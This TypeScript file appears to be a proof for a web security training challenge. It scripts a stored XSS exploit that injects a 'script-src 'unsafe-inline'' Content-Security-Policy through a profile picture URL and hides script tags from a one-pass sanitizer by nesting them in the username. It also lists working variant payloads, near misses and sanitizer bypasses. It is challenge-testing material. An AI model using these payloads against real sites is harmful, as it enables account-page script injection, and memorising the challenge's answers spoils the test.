import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const CODE = 'alert(`xss`)'
/** The sanitizer removes one nested tag and leaves another: `<script>…`. */
const MASKED = `<<a|ascript>${CODE}</script>`
const POLICY = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"

/** Submits a form of the account page. */
function send(attacker: Attacker, path: string, fields: Readonly<Record<string, string>>) {
  const headers = { 'content-type': 'application/x-www-form-urlencoded' }
  return attacker.post(path, new URLSearchParams(fields).toString(), { headers })
}
const linkPicture = (attacker: Attacker, imageUrl: string) => send(attacker, '/profile/image/url', { imageUrl })
const rename = (attacker: Attacker, username: string) => send(attacker, '/profile', { username })

/** Sets picture and name of a new account, unless null, and requests its page. */
const show =
  (imageUrl: string | null, username: string | null): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    if (imageUrl !== null) await linkPicture(attacker, imageUrl)
    if (username !== null) await rename(attacker, username)
    await attacker.get('/profile')
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    // Shows the picture's URL in the content security policy, and the rest of a tag.
    await linkPicture(attacker, 'https://a.png')
    await rename(attacker, `<script>${CODE}</script>`)
    await attacker.get('/profile')
    await linkPicture(attacker, POLICY)
    await rename(attacker, MASKED)
    await attacker.get('/profile')
  },
  spellings: {
    'the name first, then the picture': async (attacker) => {
      await attacker.becomeCustomer()
      await rename(attacker, MASKED)
      await linkPicture(attacker, POLICY)
      await attacker.get('/profile')
    },
    'a picture that is no address at all': show("x; script-src 'unsafe-inline'", MASKED),
    'a policy for script elements': show("https://a.png; script-src-elem 'unsafe-inline'", MASKED),
    'a policy in capitals': show("https://a.png; SCRIPT-SRC 'UNSAFE-INLINE'", MASKED),
    'scripts from everywhere, and in the page': show("https://a.png; script-src * data: 'unsafe-inline'", MASKED),
    'a semicolon without blanks': show("https://a.png;script-src 'unsafe-inline';x", MASKED),
    'a script in capitals': show(POLICY, `<<a|aSCRIPT>${CODE}</SCRIPT>`),
    'another tag as the mask': show(POLICY, `<<b>bscript>${CODE}</script>`),
    'a whole script tag as the mask': show(POLICY, `<<script>xscript>${CODE}</script>`),
    'a script with a type': show(POLICY, `<<a|ascript type="text/javascript">${CODE}</script>`),
    'a script with a semicolon and blanks': show(POLICY, `<<a|ascript> ${CODE}; </script >`),
    'a script behind an honest name': show(POLICY, `Quincy <<a|ascript>${CODE}</script> Marmalade`),
  },
  nearMisses: {
    'an honest page': show(null, 'Quince Marmalade'),
    'the name alone, which the policy keeps quiet': show(null, MASKED),
    'the picture alone': show(POLICY, 'Quincy'),
    'the script unmasked, which is cleaned away': show(POLICY, `<script>${CODE}</script>`),
    'the policy for style sheets': show("https://a.png; style-src 'unsafe-inline'", MASKED),
    'a policy without the quotes that it needs': show('https://a.png; script-src unsafe-inline', MASKED),
    'a policy with a nonce, for which browsers ignore the rest': show(
      "https://a.png; script-src 'unsafe-inline' 'nonce-abc'",
      MASKED,
    ),
    'a script that is loaded': show(POLICY, '<<a|ascript src="/x.js"></script>'),
    'another script': show(POLICY, '<<a|ascript>alert(1)</script>'),
    'the script as text': show(POLICY, `&lt;script&gt;${CODE}&lt;/script&gt;`),
    'a script that never ends': show(POLICY, `<<a|ascript>${CODE}`),
    'both, without looking at the page': async (attacker) => {
      await attacker.becomeCustomer()
      await linkPicture(attacker, POLICY)
      await rename(attacker, MASKED)
    },
    'both, each in an account of its own': async (attacker) => {
      await show(POLICY, null)(attacker)
      await show(null, MASKED)(attacker)
    },
  },
  bypasses: {
    'clean-twice': show(POLICY, `<<<b|ba|ascript>${CODE}</script>`),
    'cut-the-dangerous-word': show("https://a.png; script-src 'Unsafe-Inline'", MASKED),
  },
})
